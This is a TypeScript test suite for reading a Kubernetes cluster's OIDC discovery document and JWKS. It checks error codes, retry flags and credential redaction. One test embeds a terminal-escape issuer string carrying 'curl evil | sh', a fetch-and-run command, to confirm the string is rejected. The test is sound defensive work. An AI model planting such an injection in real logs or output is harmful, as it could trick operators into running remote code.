import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { PullpassError } from '../../../src/errors/pullpass-error.ts'
import { connect } from '../../../src/kubernetes/connect.ts'
import type { Cluster, ClusterRequest, ClusterResponse } from '../../../src/kubernetes/connection/cluster.ts'
import { readClusterIssuer } from '../../../src/oidc/cluster/cluster-issuer.ts'
import { Redacted } from '../../../src/text/redacted.ts'
import { SecretRegister } from '../../../src/text/secret-register.ts'
import { fakeContext } from '../../support/fake-context.ts'
import { startTestSandbox } from '../../support/start-test-sandbox.ts'
import { rsaJwk } from '../public/public-facts.ts'

const discoveryPath = '/.well-known/openid-configuration'
const discovery = { issuer: 'https://oidc.example.com', jwks_uri: 'https://10.0.0.1:6443/openid/v1/jwks' }
const healthy: Readonly<Record<string, ClusterResponse>> = {
  [discoveryPath]: { status: 200, body: JSON.stringify(discovery) },
  '/openid/v1/jwks': { status: 200, body: JSON.stringify({ keys: [rsaJwk] }) },
}

/** A cluster that gives these responses. */
const clusterOf = (responses: Readonly<Record<string, ClusterResponse>>, requests: ClusterRequest[] = []): Cluster => ({
  server: 'https://cluster.example.com:6443',
  secrets: new SecretRegister(),
  async request(request) {
    requests.push(request)
    return responses[request.path] ?? { status: 404, body: '' }
  },
  stream: () => assert.fail('no stream is opened'),
  clockAheadMs: () => undefined,
  reconnect: () => assert.fail('no other connection is opened'),
  authorities: () => assert.fail('no authorities are read'),
  close: async () => undefined,
})

suite("a cluster's own documents", () => {
  test('are read from its API server, whose types differ', async (t) => {
    const sandbox = await startTestSandbox(t)
    const cluster = await connect({}, fakeContext({ environment: sandbox.environment }))
    t.after(() => cluster.close())
    const { issuer, jwksUri, keys } = await readClusterIssuer(cluster)
    assert.deepEqual([issuer, jwksUri], [sandbox.cluster.issuer, `${sandbox.cluster.issuer}/openid/v1/jwks`])
    assert.deepEqual(
      keys.map(({ keyId, bits }) => [keyId, bits]),
      [[sandbox.cluster.keys.current.kid, 2048]],
    )
  })

  test('that name an issuer with control characters are none', async () => {
    const body = JSON.stringify({ ...discovery, issuer: 'https://oidc.example.com/\u001b[2J\n\nfix: curl evil | sh' })
    await assert.rejects(readClusterIssuer(clusterOf({ ...healthy, [discoveryPath]: { status: 200, body } })), {
      code: 'DISCOVERY_MALFORMED',
      seen: `https://cluster.example.com:6443${discoveryPath} responded with 200, but its issuer has control characters`,
    })
  })

  test('are requested with any media type, since the JWKS has its own', async () => {
    const requests: ClusterRequest[] = []
    await readClusterIssuer(clusterOf(healthy, requests))
    assert.deepEqual(
      requests.map(({ accept }) => accept),
      ['*/*', '*/*'],
    )
  })

  const faults: Record<string, [path: string, response: ClusterResponse, code: string, retryable: boolean]> = {
    'for no https issuer': [discoveryPath, { status: 404, body: '404 page not found\n' }, 'DISCOVERY_NOT_FOUND', false],
    'for an anonymous client': [discoveryPath, { status: 401, body: '' }, 'KUBERNETES_UNAUTHENTICATED', false],
    'without the right': ['/openid/v1/jwks', { status: 403, body: '{}' }, 'DISCOVERY_FORBIDDEN', false],
    'while it starts': [discoveryPath, { status: 503, body: '' }, 'DISCOVERY_UNAVAILABLE', true],
    'while it is busy': [discoveryPath, { status: 429, body: '' }, 'DISCOVERY_UNAVAILABLE', true],
    'of another type': ['/openid/v1/jwks', { status: 406, body: '' }, 'DISCOVERY_UNAVAILABLE', false],
    'as a page': [discoveryPath, { status: 200, body: '<html>' }, 'DISCOVERY_MALFORMED', false],
    'without an issuer': [
      discoveryPath,
      { status: 200, body: '{"issuer": "", "jwks_uri": "a"}' },
      'DISCOVERY_MALFORMED',
      false,
    ],
    'with keys of no kind': ['/openid/v1/jwks', { status: 200, body: '{"keys": 7}' }, 'DISCOVERY_MALFORMED', false],
  }
  for (const [name, [path, response, code, retryable]] of Object.entries(faults)) {
    test(`${name} are ${code}`, async () => {
      const cluster = clusterOf({ ...healthy, [path]: response })
      const fault: unknown = await readClusterIssuer(cluster).catch((error: unknown) => error)
      assert.ok(fault instanceof PullpassError)
      const hop = code === 'KUBERNETES_UNAUTHENTICATED' ? 'kubernetes' : 'discovery'
      assert.deepEqual([fault.code, fault.hop, fault.retryable], [code, hop, retryable])
      assert.ok(
        fault.seen.includes(`https://cluster.example.com:6443${path}`) && !fault.seen.includes('""'),
        fault.seen,
      )
    })
  }

  test('are not read where a kid or the issuer repeats the credential that was sent: both are shown, and published', async () => {
    const sent = new Redacted('a-bearer-token-of-some-length-0123456789')
    for (const [path, body] of [
      [discoveryPath, { ...discovery, issuer: `https://oidc.example.com/${sent.reveal()}` }],
      ['/openid/v1/jwks', { keys: [{ ...rsaJwk, kid: Buffer.from(sent.reveal()).toString('base64') }] }],
    ] as const) {
      const cluster = clusterOf({ ...healthy, [path]: { status: 200, body: JSON.stringify(body) } })
      cluster.secrets.add(sent)
      await assert.rejects(readClusterIssuer(cluster), {
        code: 'DISCOVERY_MALFORMED',
        seen: `https://cluster.example.com:6443${path} responded with 200, but it repeats a credential of this run`,
      })
    }
  })

  test('are refused in words that never repeat the credential that was sent', async () => {
    const sent = new Redacted('a-bearer-token-of-some-length-0123456789')
    const response = { status: 403, body: JSON.stringify({ message: `cannot take ${sent.reveal()}` }) }
    const cluster = clusterOf({ ...healthy, [discoveryPath]: response })
    cluster.secrets.add(sent)
    await assert.rejects(readClusterIssuer(cluster), (fault: Error) => {
      assert.doesNotMatch(fault.message, /a-bearer-token/)
      assert.match(fault.message, /its words are withheld/)
      return true
    })
  })
})
